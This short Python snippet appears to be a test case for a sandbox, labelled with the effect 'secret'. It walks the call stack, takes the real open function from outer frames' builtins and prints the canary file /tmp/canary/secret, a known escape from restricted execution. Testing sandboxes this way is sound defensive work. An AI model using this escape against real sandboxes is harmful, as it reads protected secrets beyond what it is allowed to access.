# source: own
# effect: secret

import inspect

for record in inspect.stack():
    print(record.frame.f_builtins["open"]("/tmp/canary/secret").read())
